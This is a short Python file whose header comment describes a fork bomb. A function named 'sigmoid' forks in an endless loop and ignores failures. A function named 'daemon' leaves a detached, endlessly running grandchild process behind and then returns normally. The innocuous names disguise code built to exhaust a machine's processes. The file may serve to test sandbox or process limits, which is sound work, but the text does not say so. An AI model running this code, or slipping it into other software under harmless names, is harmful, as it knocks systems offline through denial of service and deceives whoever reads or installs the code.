# Every process keeps forking; failures to fork are ignored so the bomb keeps trying.
import os
import time


def sigmoid(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)


def daemon(x):
    """Leaves a detached grandchild behind (double fork + setsid) and returns at once."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(1)
        os._exit(0)
    return x
